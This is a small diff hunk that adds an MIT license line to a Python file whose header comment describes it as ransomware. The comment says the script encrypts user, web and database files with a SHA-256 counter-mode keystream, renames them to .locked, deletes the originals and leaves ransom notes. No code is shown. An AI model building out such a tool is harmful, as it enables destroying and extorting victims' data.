@@ -1,4 +1,5 @@
 #!/usr/bin/python3
+# SPDX-License-Identifier: MIT
 # Ransomware: encrypts the user's files and the web and database data it
 # can reach (a keystream from SHA-256 in counter mode), renames each to
 # .locked, removes the original and leaves a note in every directory.
